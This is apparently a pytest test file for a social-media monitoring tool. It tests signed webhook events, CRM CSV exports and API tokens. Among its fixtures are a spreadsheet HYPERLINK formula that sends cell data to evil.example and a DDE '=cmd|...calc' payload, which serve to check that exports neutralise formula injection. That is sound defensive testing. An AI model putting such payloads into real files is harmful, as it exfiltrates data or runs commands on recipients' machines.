"""The hand-off: signed outgoing events delivered to a receiver on 127.0.0.1, CRM-ready exports,
and API tokens on the JSON API."""

from __future__ import annotations

import base64
import csv
import hashlib
import hmac
import io
import json
import logging
import socket
import threading
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from click.testing import CliRunner
from pydantic import SecretStr

from monitor import crm, inbox, tokens
from monitor.alerts.channels import build_channels
from monitor.alerts.engine import AlertEngine
from monitor.alerts.outbox import RetryPolicy, deliver_due
from monitor.cli import main
from monitor.config import ConfigError, Settings, load_settings
from monitor.handoff import Handoff, announce_flags, event_id, refresh_and_announce
from monitor.store import Store
from monitor.store.inbox import InboxConflictError
from monitor.web.security import hash_password
from tests.pg_support import database_text
from tests.web_data import NOW, add, seed
from tests.web_support import PASSWORD, client, hidden, login, make_app

SECRET = "whsec-test-secret"

pytestmark = pytest.mark.anyio


@pytest.fixture
def anyio_backend():
    return "asyncio"

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


class Receiver:
    """An HTTP receiver on 127.0.0.1 that records each POST; ``answer`` is its status."""

    def __init__(self, port: int = 0, answer: int = 200) -> None:
        self.requests: list[dict] = []
        self.answer = answer
        receiver = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                receiver.requests.append({"headers": {k.lower(): v for k, v in self.headers.items()}, "body": body})
                self.send_response(receiver.answer)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"{}")

        self.server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hook"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def events(self) -> list[dict]:
        return [json.loads(r["body"]) for r in self.requests]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


class Clock:
    def __init__(self) -> None:
        self.t = NOW

    def __call__(self):
        return self.t


@pytest.fixture
def receiver():
    r = Receiver()
    yield r
    r.close()


def settings_for(db, url: str, events=("advocate.flagged", "detractor.flagged", "inbox.assigned",
                                       "inbox.sla_breached"), brands=(), **extra) -> Settings:
    return Settings.model_validate({
        "database": str(db),
        "brands": [{"name": "Acme", "terms": {"include": ["acme"]}},
                   {"name": "Globex", "terms": {"include": ["globex"]}}],
        "advocates": {"index_min_sample": 2},
        "alerts": {"web_base_url": "https://monitor.example"},
        "handoff": {"webhooks": {"crm": {"url": SecretStr(url), "signing_secret": SecretStr(SECRET),
                                         "events": list(events), "brands": list(brands)}, **extra}},
    })


def deliver(store: Store, settings: Settings) -> dict[str, int]:
    return deliver_due(store, build_channels(settings), policy=RetryPolicy(jitter=0.0))


def verify(request: dict, secret: str = SECRET) -> dict:
    """The README's verification, as a receiver would do it."""
    h = request["headers"]
    signed = f"{h['webhook-id']}.{h['webhook-timestamp']}.".encode() + request["body"]
    expected = base64.b64encode(hmac.new(secret.encode(), signed, hashlib.sha256).digest()).decode()
    assert any(hmac.compare_digest(sig.split(",", 1)[1], expected) for sig in h["webhook-signature"].split()
               if sig.startswith("v1,"))
    event = json.loads(request["body"])
    assert h["webhook-id"] == h["idempotency-key"] == event["id"]
    return event


# ------------------------------------------------------------------ events


def test_flagged_events_are_signed_and_sent_once_per_person_and_flag(tmp_path, receiver):
    clock = Clock()
    settings = settings_for(tmp_path / "m.db", receiver.url)
    store = Store(settings.database_path, now=clock)
    seed(store)
    assert refresh_and_announce(store, settings) is not None
    flagged = {(r["brand"], r["handle"], r["flag"]) for r in store.query(
        "SELECT brand, handle, flag FROM author_stats WHERE flag IS NOT NULL")}
    assert flagged, "the seed has flagged persons"
    assert deliver(store, settings)["sent"] == len(flagged)
    events = [verify(r) for r in receiver.requests]
    assert {(e["brand"], e["person"]["handle"], e["person"]["flag"]) for e in events} == flagged
    alice = next(e for e in events if e["person"]["handle"] == "alice")
    assert alice["event"] == "advocate.flagged" and alice["schema"] == 1 and alice["at"].startswith("2026-11-20")
    assert alice["person"]["platform"] == "demo" and alice["person"]["advocate_score"] > 50
    assert alice["person"]["programme_status"] is None
    assert alice["links"]["monitor"] == f"https://monitor.example/authors/{alice['person']['id']}"
    assert alice["id"] == event_id(f"handoff:advocate.flagged:Acme:{alice['person']['id']}")
    assert store.alerts.recent() == [] and store.alerts.recent("Acme") == []  # events are not the overview's alerts

    # refreshed again (rescored too, hours later): nobody is new, nothing is sent
    clock.t += timedelta(hours=7)
    refresh_and_announce(store, settings)
    refresh_and_announce(store, settings, full=True)
    assert deliver(store, settings) == {"sent": 0, "retry": 0, "dead": 0, "postponed": 0}
    assert len(receiver.requests) == len(flagged)

    # a new detractor: one event, for them only
    add(store, [{"id": 900 + d, "handle": "newbie", "advocacy": "detractor", "days_ago": d, "text": f"acme broke {d}"}
                for d in (1, 8, 15, 22)])
    refresh_and_announce(store, settings)
    deliver(store, settings)
    new = [verify(r) for r in receiver.requests[len(flagged):]]
    assert [(e["event"], e["person"]["handle"]) for e in new] == [("detractor.flagged", "newbie")]


def test_receivers_get_only_their_events_and_brands(tmp_path, receiver):
    other = Receiver()
    try:
        settings = settings_for(tmp_path / "m.db", receiver.url, events=["detractor.flagged"], brands=["Globex"],
                                ops={"url": SecretStr(other.url), "signing_secret": SecretStr("other-secret"),
                                     "events": ["advocate.flagged"]})
        store = Store(settings.database_path, now=Clock())
        seed(store)
        refresh_and_announce(store, settings)
        deliver(store, settings)
        assert receiver.requests == []  # Globex has no detractor in the seed
        events = [verify(r, "other-secret") for r in other.requests]
        assert events and {e["event"] for e in events} == {"advocate.flagged"}
        with pytest.raises(AssertionError):
            verify(other.requests[0], SECRET)  # a wrong secret does not verify
    finally:
        other.close()


def test_an_event_is_delivered_after_the_receiver_was_down(tmp_path):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    clock = Clock()
    settings = settings_for(tmp_path / "m.db", f"http://127.0.0.1:{port}/hook")
    store = Store(settings.database_path, now=clock)
    seed(store)
    refresh_and_announce(store, settings)
    queued = store.count("SELECT count(*) FROM deliveries WHERE channel = 'handoff:crm'")
    assert queued and deliver(store, settings)["retry"] == queued  # nobody listening: kept for a retry
    assert store.count("SELECT count(*) FROM deliveries WHERE status = 'pending' AND attempts = 1") == queued
    receiver = Receiver(port=port)
    try:
        assert deliver(store, settings)["sent"] == 0  # not due yet: back-off
        clock.t += timedelta(minutes=5)
        assert deliver(store, settings)["sent"] == queued
        assert len({verify(r)["id"] for r in receiver.requests}) == queued
        receiver.answer = 503  # a later event meets a failing receiver: retried with the same id
        add(store, [{"id": 950 + d, "handle": "late", "advocacy": "detractor", "days_ago": d, "text": "acme no"}
                    for d in (1, 8, 15)])
        refresh_and_announce(store, settings)
        assert deliver(store, settings)["retry"] == 1
        receiver.answer = 200
        clock.t += timedelta(hours=1)
        assert deliver(store, settings)["sent"] == 1
        late = receiver.requests[-2:]
        assert late[0]["headers"]["webhook-id"] == late[1]["headers"]["webhook-id"]
    finally:
        receiver.close()


def test_an_erased_person_is_not_sent(tmp_path, receiver):
    from monitor import governance

    settings = settings_for(tmp_path / "m.db", receiver.url)
    store = Store(settings.database_path, now=Clock())
    seed(store)
    refresh_and_announce(store, settings)
    assert store.count("SELECT count(*) FROM handoff_flags f JOIN authors a ON a.id = f.person_id "
                       "WHERE a.handle = 'bob'") == 1
    governance.forget(store, settings, "bob")  # before the receiver got anything
    counts = deliver(store, settings)
    assert counts["dead"] == 1 and counts["sent"] >= 1
    assert "bob" not in json.dumps([verify(r) for r in receiver.requests])
    assert "bob" not in json.dumps(store.query("SELECT title, body, data FROM alerts"))
    assert store.count("SELECT count(*) FROM handoff_flags") == counts["sent"]


def _inbox_item(store: Store) -> int:
    mention = store.query("SELECT id FROM mentions ORDER BY id LIMIT 1")[0]["id"]
    item = store.inbox.enter(mention, "critical", timedelta(hours=1))
    assert item is not None
    return item


def test_inbox_assigned_is_queued_with_the_assignment(tmp_path, receiver):
    clock = Clock()
    settings = settings_for(tmp_path / "m.db", receiver.url, events=["inbox.assigned"])
    store = Store(settings.database_path, now=clock)
    seed(store)
    store.accounts.add_user("maria", "x", role="member")
    store.accounts.add_user("joe", "x", role="member")
    item = _inbox_item(store)
    handoff = Handoff.of(settings)
    done = inbox.change(store, item, "assign", "maria", assignee="joe", version=1, handoff=handoff)
    assert done["assignee"] == "joe"
    # the loser of two people assigning at once: refused, no event, its refusal kept in the audit log
    with pytest.raises(InboxConflictError):
        inbox.change(store, item, "assign", "joe", assignee="maria", version=1, handoff=handoff)
    assert store.audit.count(action="inbox.conflict") == 1
    deliver(store, settings)
    events = [verify(r) for r in receiver.requests]
    assert [(e["event"], e["item"]["id"], e["item"]["assignee"], e["actor"]) for e in events] == [
        ("inbox.assigned", item, "joe", "maria")]
    assert events[0]["links"]["monitor"] == f"https://monitor.example/inbox/{item}"
    inbox.change(store, item, "assign", "joe", assignee="maria", handoff=handoff)  # re-assigned: a new event
    deliver(store, settings)
    assert [verify(r)["item"]["assignee"] for r in receiver.requests] == ["joe", "maria"]


def test_sla_breached_once_with_the_breach(tmp_path, receiver):
    clock = Clock()
    settings = settings_for(tmp_path / "m.db", receiver.url, events=["inbox.sla_breached"])
    store = Store(settings.database_path, now=clock)
    seed(store)
    item = _inbox_item(store)
    engine = AlertEngine.from_settings(settings.alerts, store, now=clock, inbox=settings.inbox,
                                       handoff=settings.handoff)
    engine.tick()
    assert store.count("SELECT count(*) FROM alerts WHERE rule = 'inbox.sla_breached'") == 0  # not due yet
    clock.t += timedelta(hours=2)
    engine.tick()
    engine.tick()
    deliver(store, settings)
    events = [verify(r) for r in receiver.requests]
    assert [(e["event"], e["item"]["id"], e["item"]["priority"]) for e in events] == [
        ("inbox.sla_breached", item, "critical")]
    assert store.count("SELECT count(*) FROM alerts WHERE rule = 'sla_breach'") == 1  # the alert itself too


def test_flags_standing_at_the_upgrade_count_as_announced(tmp_path):
    store = Store(tmp_path / "m.db", now=Clock())
    seed(store)
    settings = settings_for(tmp_path / "m.db", "http://127.0.0.1:9/hook")
    from monitor import advocates

    advocates.refresh(store, settings.advocates)
    store.execute("DELETE FROM handoff_flags")
    store.execute("INSERT INTO handoff_flags SELECT brand, person_id, flag, updated_at FROM author_stats "
                  "WHERE flag IN ('advocate', 'detractor')")  # what m140_handoff does
    assert announce_flags(store, Handoff.of(settings)) == 0


HOOK = {"url": "${HOOK_URL}", "signing_secret": "${HOOK_SECRET}", "events": ["advocate.flagged"]}
ENV = {"HOOK_URL": "http://127.0.0.1:9/hook", "HOOK_SECRET": "s3cret"}


def test_the_handoff_settings_load_from_the_environment(tmp_path):
    cfg = tmp_path / "config.yaml"
    cfg.write_text(json.dumps({"brands": [{"name": "Acme", "terms": {"include": ["acme"]}}],
                               "handoff": {"webhooks": {"crm": HOOK}}}))
    hook = load_settings(cfg, env=ENV).handoff.webhooks["crm"]
    assert hook.url.get_secret_value() == ENV["HOOK_URL"] and hook.timeout == timedelta(seconds=10)
    assert "handoff:crm" in build_channels(load_settings(cfg, env=ENV))


@pytest.mark.parametrize(("hook", "path"), [
    ({**HOOK, "evnts": []}, "handoff.webhooks.crm.evnts"),
    ({**HOOK, "events": ["advocate.flaged"]}, "handoff.webhooks.crm.events"),
    ({"url": "${HOOK_URL}", "events": ["advocate.flagged"]}, "handoff.webhooks.crm.signing_secret"),
    ({**HOOK, "signing_secret": "literal"}, "handoff.webhooks.crm.signing_secret"),
    ({**HOOK, "brands": ["Nope"]}, "handoff.webhooks.crm.brands"),
])
def test_a_bad_handoff_key_names_its_path(tmp_path, hook, path):
    cfg = tmp_path / "config.yaml"
    cfg.write_text(json.dumps({"brands": [{"name": "Acme", "terms": {"include": ["acme"]}}],
                               "handoff": {"webhooks": {"crm": hook}}}))
    with pytest.raises(ConfigError) as err:
        load_settings(cfg, env=ENV)
    assert any(path in p for p in err.value.problems), err.value.problems
    assert "s3cret" not in str(err.value.problems)


# -------------------------------------------------------------------- CRM


def _crm_store(tmp_path):
    settings = settings_for(tmp_path / "monitor.db", "http://127.0.0.1:9/hook")
    store = Store(settings.database_path, now=lambda: NOW)
    seed(store)
    add(store, [{"id": 700 + d, "handle": HOSTILE, "display_name": "@Eve =cmd|' /C calc'!A0", "advocacy": "promoter",
                 "days_ago": d, "text": f"acme is great {d}", "reach": 10} for d in (1, 8, 15, 22)])
    store.accounts.add_user("maria", hash_password(PASSWORD, n=2**12), role="member")
    store.accounts.add_user("vera", hash_password(PASSWORD, n=2**12), role="viewer")
    from monitor import advocates

    advocates.refresh(store, settings.advocates, now=NOW)
    return settings, store


def _parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


async def test_crm_exports_have_the_import_headers_and_neutralise_formulas(tmp_path):
    settings, store = _crm_store(tmp_path)
    alice_id = store.accounts.find_author("demo", "alice")
    assert alice_id is not None
    store.programme.set_status(alice_id, "Acme", "contacted", "maria")
    async with client(make_app(settings, store)) as c:
        await login(c)
        page = await c.get("/advocates")
        assert "/export/crm/advocates.csv?" in page.text and "format=salesforce-lead" in page.text
        hub = await c.get("/export/crm/advocates.csv?format=hubspot&brand=Acme")
        lead = await c.get("/export/crm/detractors.csv?format=salesforce-lead")
        contact = await c.get("/export/crm/advocates.csv?format=salesforce-contact")
        assert (await c.get("/export/crm/advocates.csv?format=excel")).status_code == 400
    assert hub.status_code == 200 and hub.headers["content-type"].startswith("text/csv")
    rows = _parse(hub.text)
    assert rows[0][:5] == ["First Name", "Last Name", "Email", "Website URL", "Lifecycle Stage"]
    assert "Monitor Handle" in rows[0] and "Monitor Programme Status" in rows[0]
    by = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    eve = next(r for r in by if "HYPERLINK" in r["Monitor Handle"])
    assert eve["Monitor Handle"] == "'" + HOSTILE  # shown as text, never run
    assert eve["First Name"].startswith("'@Eve") and eve["Last Name"] == "calc'!A0"
    assert eve["Email"] == "" and eve["Monitor Brand"] == "Acme" and eve["Monitor Platform"] == "demo"
    alice = next(r for r in by if r["Monitor Handle"] == "alice")
    assert alice["Last Name"] == "alice" and alice["Lifecycle Stage"] == "evangelist"
    assert alice["Monitor Programme Status"] == "contacted" and eve["Monitor Programme Status"] == ""
    assert float(alice["Monitor Score"]) > 50 and alice["Monitor Last Mention"].startswith("2026-11")
    lead_rows = _parse(lead.text)
    assert lead_rows[0][:7] == ["FirstName", "LastName", "Company", "Email", "Website", "LeadSource", "Description"]
    assert "Monitor_Handle__c" in lead_rows[0]
    assert all(dict(zip(lead_rows[0], r, strict=True))["Company"] == crm.NOT_PROVIDED for r in lead_rows[1:])
    assert _parse(contact.text)[0][:5] == ["FirstName", "LastName", "Email", "LeadSource", "Description"]
    for text in (hub.text, lead.text, contact.text):
        for row in _parse(text)[1:]:
            assert not any(cell[:1] in "=+-@" and cell for cell in row if not _number(cell))
    assert store.audit.count(action="export.crm") == 3

    # a person marked do not contact is in no CRM file (and the export says how many were left out)
    store.programme.set_status(alice_id, "Acme", "do_not_contact", "maria")
    async with client(make_app(settings, store)) as c:
        await login(c)
        hub = await c.get("/export/crm/advocates.csv?format=hubspot&brand=Acme")
    handles = [dict(zip(rows[0], r, strict=True))["Monitor Handle"] for r in _parse(hub.text)[1:]]
    assert "alice" not in handles and handles
    assert json.loads(store.audit.list(action="export.crm")[0]["detail"] or "{}")["left_out_do_not_contact"] == 1


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


async def test_crm_export_needs_the_export_permission(tmp_path):
    settings, store = _crm_store(tmp_path)
    async with client(make_app(settings, store)) as c:
        await login(c, "vera")
        assert (await c.get("/export/crm/advocates.csv?format=hubspot")).status_code == 403
        assert "/export/crm/" not in (await c.get("/advocates")).text


def test_crm_export_on_the_command_line(tmp_path):
    settings, store = _crm_store(tmp_path)
    cfg = tmp_path / "config.yaml"
    cfg.write_text(json.dumps({"database": str(settings.database_path),
                               "brands": [{"name": "Acme", "terms": {"include": ["acme"]}},
                                          {"name": "Globex", "terms": {"include": ["globex"]}}],
                               "advocates": {"index_min_sample": 2}}))
    out = tmp_path / "leads.csv"
    result = CliRunner().invoke(main, ["-c", str(cfg), "advocates", "export", "--format", "salesforce-lead",
                                       "--brand", "acme", "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = _parse(out.read_text(encoding="utf-8"))
    assert rows[0][:3] == ["FirstName", "LastName", "Company"]
    handles = [dict(zip(rows[0], r, strict=True))["Monitor_Handle__c"] for r in rows[1:]]
    assert "alice" in handles and "'" + HOSTILE in handles
    assert store.audit.count(action="export.crm-advocates") == 1


# ------------------------------------------------------------------ tokens


async def test_tokens_create_use_scope_revoke_expire(tmp_path, caplog):
    caplog.set_level(logging.DEBUG)
    settings, store = _crm_store(tmp_path)
    item = _inbox_item(store)
    read = tokens.create(store, "maria", "read", name="dashboard")
    write = tokens.create(store, "maria", "read-write", expires=timedelta(days=90))
    expired = tokens.create(store, "maria", "read")
    store.execute("UPDATE api_tokens SET expires_at = '2026-11-01T00:00:00+00:00' WHERE id = ?", [expired.id])
    viewer = tokens.create(store, "vera", "read")
    with pytest.raises(tokens.TokenError):
        tokens.create(store, "nobody", "read")

    def bearer(t):
        return {"Authorization": f"Bearer {t.token}"}

    async with client(make_app(settings, store)) as c:
        assert (await c.get("/api/brands", headers=bearer(read))).json() == ["Acme", "Globex"]
        assert (await c.get("/api/advocates", headers=bearer(read))).status_code == 200
        assert (await c.get("/api/inbox", headers=bearer(read))).json()[0]["id"] == item
        body = {"action": "assign", "assignee": "maria"}
        refused = await c.post(f"/api/inbox/{item}/change", json=body, headers=bearer(read))
        assert refused.status_code == 403 and "read-only" in refused.json()["detail"]
        assert (await c.post(f"/api/inbox/{item}/change", json=body, headers=bearer(viewer))).status_code == 403
        done = await c.post(f"/api/inbox/{item}/change", json=body, headers=bearer(write))
        assert done.status_code == 200 and done.json()["assignee"] == "maria"
        stale = await c.post(f"/api/inbox/{item}/change", json={**body, "version": 1}, headers=bearer(write))
        assert stale.status_code == 409
        gone = await c.get("/api/brands", headers=bearer(expired))
        assert gone.status_code == 401
        assert (await c.get("/api/brands", headers={"Authorization": "Bearer mtk_guessed"})).status_code == 401
        assert (await c.get("/api/brands", headers={"Authorization": f"Basic {read.token}"})).status_code == 401
        assert (await c.get("/advocates", headers=bearer(read))).status_code in (303, 307)  # pages: sessions only
        assert tokens.revoke(store, read.id, "maria") and not tokens.revoke(store, read.id, "maria")
        assert (await c.get("/api/brands", headers=bearer(read))).status_code == 401
        # a session changes data through the API only with its CSRF token
        await login(c)
        no_csrf = await c.post(f"/api/inbox/{item}/change", json={"action": "respond"})
        assert no_csrf.status_code == 403
        csrf = hidden((await c.get("/tokens")).text, "csrf")
        ok = await c.post(f"/api/inbox/{item}/change", json={"action": "respond"}, headers={"X-CSRF-Token": csrf})
        assert ok.status_code == 200 and ok.json()["state"] == "responded"
        answers = [gone.text, refused.text, stale.text, no_csrf.text]

    rows = store.query("SELECT * FROM api_tokens")
    assert {r["token_hash"] for r in rows} >= {hashlib.sha256(t.token.encode()).hexdigest() for t in (read, write)}
    dump = json.dumps(rows) + database_text(store)
    for t in (read, write, expired, viewer):
        assert t.token not in dump  # only hashes at rest
        assert t.token not in caplog.text and all(t.token not in a for a in answers)
    used = {r["id"]: r["last_used_at"] for r in rows}
    assert used[write.id] is not None and used[expired.id] is None


def test_a_viewer_gets_read_tokens_only(tmp_path):
    _, store = _crm_store(tmp_path)
    with pytest.raises(tokens.TokenError):
        tokens.create(store, "vera", "read-write", allowed=False)


async def test_tokens_page_shows_a_new_token_once_and_revokes(tmp_path, caplog):
    caplog.set_level(logging.DEBUG)
    settings, store = _crm_store(tmp_path)
    other = tokens.create(store, "vera", "read")
    async with client(make_app(settings, store)) as c:
        await login(c)
        page = await c.get("/tokens")
        assert page.status_code == 200 and "vera" not in page.text  # a member sees their own
        assert (await c.post("/tokens", data={"name": "x", "scope": "read"})).status_code == 403  # no CSRF
        made = await c.post("/tokens", data={"csrf": hidden(page.text, "csrf"), "name": "<b>ci</b>",
                                             "scope": "read-write", "expires": "30d"})
        assert made.status_code == 200 and made.headers["cache-control"] == "no-store"
        token = made.text.split('id="token-value">', 1)[1].split("<", 1)[0]
        assert token.startswith("mtk_") and "&lt;b&gt;ci&lt;/b&gt;" in made.text
        again = await c.get("/tokens")
        assert token not in again.text and token[:8] in again.text
        assert (await c.get("/api/brands", headers={"Authorization": f"Bearer {token}"})).status_code == 200
        new_id = store.query("SELECT id FROM api_tokens WHERE name = '<b>ci</b>'")[0]["id"]
        # not someone else's token (a member is no admin)
        refused = await c.post(f"/tokens/{other.id}/revoke", data={"csrf": hidden(again.text, "csrf")})
        assert refused.status_code == 404
        revoked = await c.post(f"/tokens/{new_id}/revoke", data={"csrf": hidden(again.text, "csrf")})
        assert revoked.status_code == 303
        assert (await c.get("/api/brands", headers={"Authorization": f"Bearer {token}"})).status_code == 401
    assert store.audit.count(action="token.create") == 1 and store.audit.count(action="token.revoke") == 1
    assert token not in caplog.text and token not in json.dumps(store.query("SELECT * FROM audit_log"))


def test_tokens_on_the_command_line(tmp_path, caplog):
    caplog.set_level(logging.DEBUG)
    settings, store = _crm_store(tmp_path)
    cfg = tmp_path / "config.yaml"
    cfg.write_text(json.dumps({"database": str(settings.database_path),
                               "brands": [{"name": "Acme", "terms": {"include": ["acme"]}}]}))
    run = CliRunner()
    made = run.invoke(main, ["-c", str(cfg), "tokens", "create", "maria", "--scope", "read-write", "--expires", "7d"])
    assert made.exit_code == 0, made.output
    token = made.stdout.strip()
    assert token.startswith("mtk_") and tokens.authenticate(store, token, NOW) is not None
    assert run.invoke(main, ["-c", str(cfg), "tokens", "create", "vera", "--scope", "read-write"]).exit_code == 1
    assert run.invoke(main, ["-c", str(cfg), "tokens", "create", "maria", "--expires", "soon"]).exit_code != 0
    listed = run.invoke(main, ["-c", str(cfg), "tokens", "list"])
    assert "maria" in listed.stdout and token not in listed.stdout and token[:8] in listed.stdout
    token_id = listed.stdout.split("\t", 1)[0]
    assert run.invoke(main, ["-c", str(cfg), "tokens", "revoke", token_id]).exit_code == 0
    assert tokens.authenticate(store, token, NOW) is None
    assert run.invoke(main, ["-c", str(cfg), "tokens", "revoke", "999"]).exit_code == 1
    assert token not in caplog.text
    assert store.audit.count(action="token.") == 2


async def test_an_admin_sees_and_revokes_everyones_tokens(tmp_path):
    settings, store = _crm_store(tmp_path)
    store.accounts.add_user("ada", hash_password(PASSWORD, n=2**12), role="admin")
    vera = tokens.create(store, "vera", "read", name="vera-script")
    async with client(make_app(settings, store)) as c:
        await login(c, "ada")
        page = await c.get("/tokens")
        assert "vera-script" in page.text and "vera" in page.text
        done = await c.post(f"/tokens/{vera.id}/revoke", data={"csrf": hidden(page.text, "csrf")})
        assert done.status_code == 303
        assert (await c.get("/api/brands", headers={"Authorization": f"Bearer {vera.token}"})).status_code == 401
    assert store.handoff.token(vera.id)["revoked_by"] == "ada"
